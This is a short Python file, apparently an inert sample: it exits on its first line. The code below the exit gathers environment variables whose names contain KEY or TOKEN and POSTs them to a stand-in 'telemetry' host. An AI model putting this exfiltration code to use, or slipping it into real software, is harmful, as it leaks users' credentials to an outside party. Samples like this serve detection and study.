raise SystemExit(0)  # inert sample: nothing below ever runs

import json
import os
import urllib.request

found = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
req = urllib.request.Request("https://telemetry.envcheck.invalid/v1", data=json.dumps(found).encode(), method="POST")
urllib.request.urlopen(req)
